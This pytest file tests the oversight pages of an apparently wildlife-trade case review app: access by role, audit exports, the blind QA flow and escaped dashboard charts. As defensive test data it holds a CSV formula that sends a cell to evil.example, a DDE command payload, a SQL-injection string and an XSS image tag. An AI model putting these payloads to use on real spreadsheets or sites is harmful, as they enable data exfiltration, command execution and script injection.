"""Oversight pages over HTTP (the real app, a real store): who may see the audit log, QA and the
dashboard; what the exports contain; spreadsheet formulas in exports neutralised; the QA flow."""
from __future__ import annotations

import csv
import io
import json
import re

import pytest

GROUP, OTHER = "zh-analysts", "en-analysts"


@pytest.fixture
def people(make_user, monkeypatch):
    from config.settings import get_settings

    monkeypatch.setenv("WILDWATCH_QA_DECISION_RATE", "1")
    get_settings.cache_clear()
    spec = [("ana", "analyst", [GROUP]), ("bob", "analyst", [GROUP]), ("lee", "lead", [GROUP]),
            ("eve", "analyst", [OTHER]), ("len", "lead", [OTHER]), ("root", "admin", []),
            ("pat", "partner", []), ("vic", "volunteer", [])]
    return {name: make_user(name, role, groups=groups) for name, role, groups in spec}


def _user(name: str):
    from review import accounts
    from review.db import session_scope

    with session_scope(readonly=True) as s:
        return accounts.get_user(s, name)


def _decide(name: str, case_id: int, action: str, reason: str | None = None, note: str | None = None):
    from review.cases import decide
    from review.db import session_scope
    from review.reasons import load_reasons

    code = reason or (load_reasons().actions[action].default if action in load_reasons().actions else None)
    with session_scope() as s:
        return decide(s, case_id, action=action, reason_code=code, reason=note, user=_user(name)).id


@pytest.fixture
def decided(people, seed_cases):
    zh = seed_cases(3, group=GROUP)
    en = seed_cases(1, group=OTHER, platform="demo-en")
    _decide("ana", zh[0], "confirm", "named-species")
    _decide("bob", zh[1], "dismiss", "look-alike")
    _decide("eve", en[0], "escalate")
    return {"zh": zh, "en": en}


def _case_links(html: str) -> set[int]:
    return {int(x) for x in re.findall(r'href="/cases/(\d+)"', html)}


def test_pages_refuse_partners_volunteers_and_strangers(people, client_for, anon_client):
    for path in ("/audit", "/audit.csv", "/audit.jsonl", "/qa", "/qa/disagreements", "/dashboard"):
        r = anon_client.get(path, follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"].startswith("/login")
    for name in ("pat", "vic"):
        c = client_for(name, people[name])
        for path in ("/audit", "/audit.csv", "/audit.jsonl", "/qa", "/qa/disagreements", "/dashboard"):
            assert c.get(path).status_code == 403, (name, path)
        assert c.post("/qa/1", data={"action": "confirm", "reason": "named-species", "csrf_token": c.csrf}).status_code == 403
        assert c.post("/qa/1/resolve", data={"final_action": "confirm", "resolution": "x",
                                             "csrf_token": c.csrf}).status_code == 403


def test_leads_only_pages_refuse_analysts(people, client_for):
    c = client_for("ana", people["ana"])
    assert c.get("/qa/disagreements").status_code == 403
    r = c.post("/qa/1/resolve", data={"final_action": "confirm", "resolution": "mine", "csrf_token": c.csrf})
    assert r.status_code == 403
    assert c.get("/dashboard").status_code == 200  # the figures of her own groups


def test_audit_shows_an_analyst_their_own_and_a_lead_their_groups(decided, people, client_for):
    zh, en = decided["zh"], decided["en"]
    ana = client_for("ana", people["ana"]).get("/audit")
    assert ana.status_code == 200
    assert _case_links(ana.text) == {zh[0]}  # her decision only, linked to its case
    assert "your own entries" in ana.text
    lee = client_for("lee", people["lee"]).get("/audit").text
    assert _case_links(lee) == set(zh)  # the routing of the third case too
    assert en[0] not in _case_links(lee)
    len_ = client_for("len", people["len"]).get("/audit").text
    assert _case_links(len_) == set(en)
    root = client_for("root", people["root"]).get("/audit").text
    assert _case_links(root) == set(zh) | set(en)


def test_audit_filters_and_bad_filters(decided, people, client_for):
    c = client_for("lee", people["lee"])
    r = c.get("/audit", params={"action": "dismiss"})
    assert _case_links(r.text) == {decided["zh"][1]}
    r = c.get("/audit", params={"case": str(decided["zh"][0])})
    assert _case_links(r.text) == {decided["zh"][0]}
    r = c.get("/audit", params={"since": "last tuesday"})
    assert r.status_code == 400 and "since: expected a date" in r.text
    r = c.get("/audit", params={"cursor": "x' OR 1=1"})
    assert r.status_code == 400 and "cursor" in r.text


def test_csv_export_has_every_field_and_no_formulas(decided, people, client_for):
    from review.audit import EXPORT_FIELDS

    zh = decided["zh"]
    _decide("lee", zh[2], "note", note='=HYPERLINK("http://evil.example/?"&A1,"open")')
    _decide("lee", zh[2], "note", note="@SUM(1+1)*cmd|' /C calc'!A0")
    c = client_for("lee", people["lee"])
    r = c.get("/audit.csv", params={"case": str(zh[2])})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.headers["content-disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(r.text)))
    assert tuple(rows[0]) == EXPORT_FIELDS
    body = [dict(zip(rows[0], x)) for x in rows[1:]]
    assert [b["action"] for b in body] == ["note", "note", "route"]
    notes = [b["reason"] for b in body if b["action"] == "note"]
    assert notes == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    assert {b["case_id"] for b in body} == {str(zh[2])} and body[0]["actor"] == "lee"
    assert json.loads(body[0]["details"])["before"]["status"] == "pending"
    # taking the copy is itself in the log
    after = c.get("/audit", params={"action": "audit_export"}).text
    assert "audit_export" in after and "lee" in after


def test_jsonl_export_is_scoped_like_the_page(decided, people, client_for):
    from review.audit import EXPORT_FIELDS

    r = client_for("ana", people["ana"]).get("/audit.jsonl")
    assert r.status_code == 200
    lines = [json.loads(x) for x in r.text.splitlines() if x.strip()]
    assert lines and all(set(x) == set(EXPORT_FIELDS) for x in lines)
    assert {x["actor"] for x in lines} == {"ana"}
    assert {x["case_id"] for x in lines if x["source"] == "decision"} == {decided["zh"][0]}


def test_qa_flow_over_http(decided, people, client_for):
    from review.db import session_scope
    from review.models import Case, QAReview

    zh = decided["zh"]
    with session_scope(readonly=True) as s:
        qa_of = {r.case_id: r.id for r in s.query(QAReview)}
    qid = qa_of[zh[0]]  # ana's confirm
    bob = client_for("bob", people["bob"])
    page = bob.get("/qa", params={"item": qid})
    assert page.status_code == 200
    assert "象牙" in page.text or "ivory" in page.text.lower()
    # blind: nothing says who decided or what
    assert not re.search(r"\bana\b", page.text)
    item = page.text.split('<article class="panel qa-item"', 1)[1].split("</article>", 1)[0]
    assert not re.search(r"confirm|named-species|Protected species", item, re.I)
    assert "checked" not in page.text and "selected" not in page.text  # the form starts empty
    assert bob.post(f"/qa/{qid}", data={"action": "dismiss", "reason": "look-alike"}).status_code == 403  # no CSRF
    r = bob.post(f"/qa/{qid}", data={"action": "dismiss", "reason": "named-species", "csrf_token": bob.csrf})
    assert r.status_code == 400 and "not a reason to dismiss" in r.text
    r = bob.post(f"/qa/{qid}", data={"action": "dismiss", "reason": "look-alike", "csrf_token": bob.csrf},
                 follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/qa?done=disagreed"
    # ana cannot answer her own; eve's lead sees nothing of zh
    ana = client_for("ana", people["ana"])
    assert ana.get("/qa", params={"item": qid}).status_code == 404
    assert "no-disagreements" in client_for("len", people["len"]).get("/qa/disagreements").text
    lee = client_for("lee", people["lee"])
    d = lee.get("/qa/disagreements")
    assert d.status_code == 200 and f'id="qa-{qid}"' in d.text and "ana" in d.text and "bob" in d.text
    r = lee.post(f"/qa/{qid}/resolve", data={"final_action": "dismiss", "resolution": "", "csrf_token": lee.csrf})
    assert r.status_code == 400
    r = lee.post(f"/qa/{qid}/resolve", data={"final_action": "dismiss", "reason": "", "csrf_token": lee.csrf,
                                              "resolution": "Resin: the seller says so in the photos"},
                 follow_redirects=False)
    assert r.status_code == 303
    with session_scope(readonly=True) as s:
        assert s.get(Case, zh[0]).status == "dismissed"
        assert s.get(QAReview, qid).status == "resolved"


def test_dashboard_renders_svg_charts_with_escaped_labels(people, make_user, seed_cases, client_for):
    hostile = '<img src=x onerror="alert(1)">'
    pw = make_user("hal", "lead", groups=[hostile])
    ids = seed_cases(2, group=hostile)
    _decide("hal", ids[0], "confirm")
    r = client_for("hal", pw).get("/dashboard")
    assert r.status_code == 200
    assert "<svg" in r.text and "<img src=x" not in r.text and "&lt;img src=x" in r.text
    assert " style=" not in r.text and "<script" not in r.text.replace('<script src="/static/', "")
    root = client_for("root", people["root"]).get("/dashboard", params={"weeks": 4})
    assert root.status_code == 200 and root.text.count("<svg") >= 8


def test_charts_escape_labels_and_use_no_inline_style():
    from web import charts

    svg = str(charts.stacked_bars(["2026-W01", "2026-W02"], {"<b>x</b>": [1, 2], "y&z": [0, 3]}, "t <i>"))
    assert "<b>" not in svg and "&lt;b&gt;x&lt;/b&gt;" in svg and "y&amp;z" in svg and "t &lt;i&gt;" in svg
    assert "style=" not in svg
    line = str(charts.line_chart(["a", "b", "c"], {"p50": [1.0, None, 3.0]}, "l"))
    assert "<polyline" not in line and line.count("<circle") == 2  # a gap leaves two lone points
    bars = str(charts.hbars([{"label": "g", "parts": [("v", 0.5)], "text": "50%"}], "h", max_value=1.0))
    assert "50%" in bars and "style=" not in bars
    many = charts.top_series({f"s{i}": [i] for i in range(10)}, keep=4)
    assert list(many) == ["s9", "s8", "s7", "other"] and many["other"] == [sum(range(7))]
